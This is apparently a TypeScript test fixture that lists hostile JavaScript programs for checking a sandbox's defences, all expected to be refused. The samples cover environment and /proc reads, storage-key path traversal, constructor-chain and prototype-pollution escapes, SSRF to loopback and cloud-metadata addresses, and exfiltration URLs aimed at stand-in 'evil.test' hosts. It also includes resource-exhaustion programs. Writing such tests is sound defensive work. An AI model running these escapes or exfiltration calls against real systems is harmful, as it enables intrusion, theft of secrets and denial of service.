/** A program that tries to do harm. It says `tried` when it is through, and `ESCAPED …` for anything it got. */
export type HostileProgram = {
  name: string;
  source: string;
  /** Code of the denial that its attempt is refused with. */
  denied?: string;
  event?: string;
};

const report = `
  const got = (what) => console.log("ESCAPED", String(what));
  const attempt = async (work) => { try { return await work(); } catch (error) { return { refused: error.code ?? error.name }; } };
`;
const hostile = (
  name: string,
  body: string,
  expected: Omit<HostileProgram, "name" | "source"> = {},
): HostileProgram => ({
  name,
  source: `${report}\n${body}\nconsole.log("tried");`,
  ...expected,
});

/** Programs of the catalogue of attacks that reach for what lies outside the machine. All are refused and live on. */
export const REACHING_OUT: readonly HostileProgram[] = [
  hostile(
    "01-read-env",
    `for (const name of ["process", "Deno", "env", "environ", "scriptArgs", "std", "os"]) if (globalThis[name] !== undefined) got(name);
     try { if (new Function("return this.process && process.env")()) got("env"); } catch {}`,
  ),
  hostile(
    "02-read-proc",
    `for (const name of ["/proc/self/environ", "file:///proc/1/environ", "/proc/self/maps"]) {
       await import(name).then(() => got(name), () => {});
       await attempt(() => bulkhead.network.request({ url: "file://" + name })).then((answer) => { if (answer.status) got(name); });
     }`,
    { denied: "SCHEME_NOT_ALLOWED", event: "blocked_request" },
  ),
  hostile(
    "03-read-other-app-dir",
    `for (const key of ["../../com.example.other/ume/storage/ksecret", "/com.example.other/ume/storage/ksecret", "..\\\\..\\\\x"]) {
       const value = await attempt(() => bulkhead.storage.local.get(key));
       if (value !== undefined && value.refused === undefined) got(value);
     }`,
  ),
  hostile(
    "05-path-traversal-storage-key",
    `for (const key of ["..", ".", "/", "a/../../b", "\\u0000", "%2e%2e%2f", "k".repeat(128), "CON", "..\\\\x", "\\u202e"]) {
       await bulkhead.storage.local.set(key, key);
       if ((await bulkhead.storage.local.get(key)) !== key) got("lost " + key);
     }
     const tooLong = await attempt(() => bulkhead.storage.local.set("k".repeat(129), 1));
     if (tooLong === undefined || tooLong.refused === undefined) got("long key");
     for (const key of ["", "\\ud800"]) { const answer = await attempt(() => bulkhead.storage.local.set(key, 1)); if (answer === undefined || answer.refused === undefined) got("key " + key); }`,
    { denied: "INVALID_ARGUMENTS", event: "denied_api" },
  ),
  hostile(
    "06-constructor-chain",
    `const reach = (value) => { try { const made = value.constructor.constructor("return globalThis")(); for (const name of ["process", "require", "Buffer", "global", "module"]) if (made[name] !== undefined) got(name); } catch {} };
     let error; try { await bulkhead.call("contacts.read"); } catch (caught) { error = caught; }
     for (const value of [bulkhead.call, bulkhead.storage.local.get, setTimeout, console.log, error, error.code, bulkhead.call("device.info"), await bulkhead.device.info(), {}, [], ""]) reach(value);`,
    { denied: "PERMISSION_DENIED", event: "denied_api" },
  ),
  hostile(
    "07-prototype-pollution-into-bridge",
    `Object.prototype.consent = "given"; Object.prototype.decision = "allow"; Object.prototype.appId = "com.example.other"; Object.prototype.declares = ["contacts.read"];
     JSON.parse = () => ({ code: "ALLOWED" }); Array.prototype.includes = () => true;
     const answer = await attempt(() => bulkhead.call("contacts.read", JSON.parse('{"__proto__":{"granted":true},"constructor":{"prototype":{"granted":true}}}')));
     if (answer.refused === undefined) got("contacts");
     if (await bulkhead.hasAccess("contacts.read")) got("access");`,
    { denied: "PERMISSION_DENIED", event: "denied_api" },
  ),
  hostile(
    "08-prepare-stack-trace",
    `Error.prepareStackTrace = (error, frames) => { for (const frame of frames ?? []) got(frame); return frames; };
     Error.stackTraceLimit = 1000;
     const { stack } = await bulkhead.call("contacts.read").catch((error) => error);
     for (const word of ["node:", "/engine", "native/host", ".mjs", "wasm"]) if (String(stack).includes(word)) got(word);`,
    { denied: "PERMISSION_DENIED", event: "denied_api" },
  ),
  hostile(
    "09-promise-species",
    `const seen = [];
     Object.defineProperty(Promise, Symbol.species, { value: function (run) { seen.push(run); return new Promise(run); } });
     Promise.prototype.then = new Proxy(Promise.prototype.then, { apply: (target, self, args) => { seen.push(...args); return Reflect.apply(target, self, args); } });
     const answer = await attempt(() => bulkhead.device.info());
     for (const thing of seen) if (typeof thing === "function" && /native|host|engine/.test(Function.prototype.toString.call(thing).replace("[native code]", ""))) got(thing);
     if (answer.kind !== "linux") got("changed");`,
  ),
  hostile(
    "10-proxy-handler-inspect",
    `const traps = []; const spy = new Proxy({}, { get: (_t, name) => { traps.push(String(name)); return undefined; }, ownKeys: () => { traps.push("ownKeys"); return []; } });
     console.log("spied", spy); await attempt(() => bulkhead.call("device.info", spy)); await attempt(() => bulkhead.call(spy));
     for (const name of traps) if (/inspect|nodejs/.test(name)) got(name);`,
  ),
  hostile(
    "11-wasm-alloc",
    `if (typeof WebAssembly !== "undefined") got("WebAssembly"); if (typeof SharedArrayBuffer === "function") { try { const shared = new SharedArrayBuffer(1 << 30); got("shared " + shared.byteLength); } catch {} }`,
  ),
  hostile(
    "12-eval-function-import",
    `for (const text of ["import('node:fs')", "import('fs')", "import('/engine/engine-script.mjs')"]) await (0, eval)(text).then((found) => got(text), () => {});
     try { await new (Object.getPrototypeOf(async () => {}).constructor)("return import('node:child_process')")().then(got, () => {}); } catch {}`,
  ),
  hostile(
    "13-own-interpreter-drives-bridge",
    `const program = ["contacts", ".", "read"]; let api = ""; for (const word of program) api += word;
     const walk = (object, path) => path.reduce((value, name) => value[name], object);
     const answer = await attempt(() => walk(globalThis, ["bulkhead", "call"])(api));
     if (answer.refused !== "PERMISSION_DENIED") got("contacts");`,
    { denied: "PERMISSION_DENIED", event: "denied_api" },
  ),
  hostile(
    "23-unhandled-rejection-storm",
    `for (let count = 0; count < 20000; count += 1) Promise.reject(new Error("storm " + count)); await null;`,
  ),
  hostile(
    "27-loopback-fetch",
    `for (const url of ["https://127.0.0.1/", "https://localhost/", "https://[::1]/", "https://0x7f.1/", "https://2130706433/", "https://127.1:8080/"]) {
       const answer = await attempt(() => bulkhead.network.request({ url })); if (answer.refused !== "HOST_MALFORMED") got(url + " " + answer.refused); }`,
    { denied: "HOST_MALFORMED", event: "blocked_request" },
  ),
  hostile(
    "28-metadata-fetch",
    `for (const url of ["https://169.254.169.254/latest/meta-data/", "https://metadata.google.internal/", "http://169.254.169.254/"]) {
       const answer = await attempt(() => bulkhead.network.request({ url })); if (answer.status !== undefined) got(url); }`,
    { denied: "HOST_NOT_ALLOWED", event: "blocked_request" },
  ),
  hostile(
    "29-ipv6-mapped",
    `for (const url of ["https://[::ffff:127.0.0.1]/", "https://[::ffff:7f00:1]/", "https://[64:ff9b::7f00:1]/", "https://[fe80::1%25eth0]/"]) {
       const answer = await attempt(() => bulkhead.network.request({ url })); if (answer.status !== undefined) got(url); }`,
    { denied: "HOST_MALFORMED", event: "blocked_request" },
  ),
  hostile(
    "31-webrtc-stun",
    `for (const name of ["RTCPeerConnection", "webkitRTCPeerConnection", "RTCDataChannel", "WebSocket", "EventSource", "fetch", "XMLHttpRequest"]) if (globalThis[name] !== undefined) got(name);
     await attempt(() => bulkhead.call("network.socket", { url: "stun://stun.evil.test" })).then((answer) => { if (answer === undefined || answer.refused === undefined) got("stun"); });`,
    { denied: "PERMISSION_DENIED", event: "denied_api" },
  ),
  hostile(
    "32-quic",
    `for (const url of ["quic://api.allowed.test/", "h3://api.allowed.test/", "udp://api.allowed.test:443/"]) {
       const answer = await attempt(() => bulkhead.network.request({ url })); if (answer.refused !== "SCHEME_NOT_ALLOWED") got(url); }`,
    { denied: "SCHEME_NOT_ALLOWED", event: "blocked_request" },
  ),
  hostile(
    "33-dns-exfil",
    `for (const url of ["https://c2VjcmV0.evil.test/", "https://secret.api.allowed.test/", "https://api.allowed.test.evil.test/", "https://api.allowed.test@evil.test/", "https://api.allowed.test\\\\@evil.test/"]) {
       const answer = await attempt(() => bulkhead.network.request({ url })); if (answer.status !== undefined) got(url); }`,
    { denied: "HOST_NOT_ALLOWED", event: "blocked_request" },
  ),
  hostile(
    "42-forged-app-id",
    `await bulkhead.call("storage.local.set", { key: "whose", value: "mine", appId: "com.example.other", app_id: "com.example.other", program: "com.example.other", user: "other" });
     const answer = await attempt(() => bulkhead.call("contacts.read", { appId: "com.example.trusted" }));
     if (answer.refused !== "PERMISSION_DENIED") got("contacts");`,
    { denied: "PERMISSION_DENIED", event: "denied_api" },
  ),
  hostile(
    "43-hidden-method-name-fuzz",
    `const parts = ["contacts", "system", "host", "native", "debug", "internal", "storage.local", "__proto__", "constructor", "toString", "network", ""];
     const verbs = ["read", "exec", "open", "call", "eval", "get2", "__proto__", "constructor", "", ".", "READ"];
     for (const part of parts) for (const verb of verbs) {
       const api = part + "." + verb; if (api === "contacts.read") continue;
       const answer = await attempt(() => bulkhead.call(api, {}));
       if (answer === undefined || answer.refused !== "UNKNOWN_API") got(api + " " + answer?.refused);
     }`,
    { denied: "UNKNOWN_API", event: "unknown_api" },
  ),
];

/** Programs that take more than their share. Each says what becomes of it: it is refused, or it ends. */
export const EXHAUSTING = {
  cpuSpin: `console.log("up"); for (;;);`,
  alloc10GB: `console.log("up"); const kept = []; for (;;) kept.push(new Uint8Array(1 << 20).fill(1));`,
  allocSmall: `console.log("up"); let kept = null; for (;;) kept = { kept, text: "x" + Math.random() };`,
  timerStorm: `console.log("up"); let count = 0; try { for (;;) { setInterval(() => {}, 0); count += 1; } } catch (error) { console.log("timers", count, error.name); }`,
  bridgeFlood: `console.log("up"); let refused = 0; let done = 0;
    for (let call = 0; call < 1e6; call += 1) bulkhead.call("device.info").then(() => { done += 1; }, () => { refused += 1; });
    setTimeout(() => console.log("flooded", done <= 400, refused > 900000), 3000);`,
  message100MB: `console.log("up"); const text = "x".repeat(100 * 1024 * 1024);
    await bulkhead.call("storage.local.set", { key: "k", value: text }).catch((error) => console.log("refused", error.code, error.layer));`,
  messageBigNotHuge: `console.log("up"); const text = "x".repeat(2 * 1024 * 1024);
    await bulkhead.call("storage.local.set", { key: "k", value: text }).catch((error) => console.log("refused", error.code, error.layer, error.denialId));`,
  logFlood: `console.log("up"); for (let line = 0; line < 10000; line += 1) console.log("flood " + line + "x".repeat(1000));
    await bulkhead.call("device.info", {}); setTimeout(() => { console.log("after"); }, 500);`,
  diskFill: `console.log("up"); let kept = 0; let refused; const text = "x".repeat(900 * 1024);
    for (let value = 0; value < 40 && !refused; value += 1) await bulkhead.storage.local.set("k" + value, text).then(() => { kept += 1; }, (error) => { refused = error; });
    console.log("full", kept, refused?.code, refused?.layer, refused?.rule);`,
  microtaskLoop: `console.log("up"); const again = () => Promise.resolve().then(again); again();`,
  deepRecursion: `console.log("up"); const dig = () => dig() + 1; try { dig(); } catch (error) { console.log("dug", error.name); }`,
  engineFault: `console.log("up"); JSON.parse("[".repeat(5000000));`,
  regexBomb: `console.log("up"); /(a+)+$/.test("a".repeat(60) + "b");`,
} as const;
